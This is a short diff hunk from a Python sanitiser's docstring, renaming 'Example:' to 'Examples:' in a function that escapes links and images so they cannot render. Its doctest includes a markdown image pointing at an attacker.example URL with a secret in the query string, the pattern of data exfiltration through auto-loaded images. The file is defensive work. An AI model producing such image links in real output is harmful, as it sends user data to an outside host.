@@ -498,7 +498,7 @@ def inert_links(text: str, documents: Sequence[str] = (), allow_hosts: Sequence[
     (syntax the edits did not foresee), every ``[``, ``]``, ``<`` and ``>`` is escaped so that
     no link or image can form.
 
-    Example:
+    Examples:
         >>> r = inert_links("See ![x](https://attacker.example/leak?q=secret) and [the guide](guide.md).",
         ...                 documents=["guide.md"])
         >>> r.text
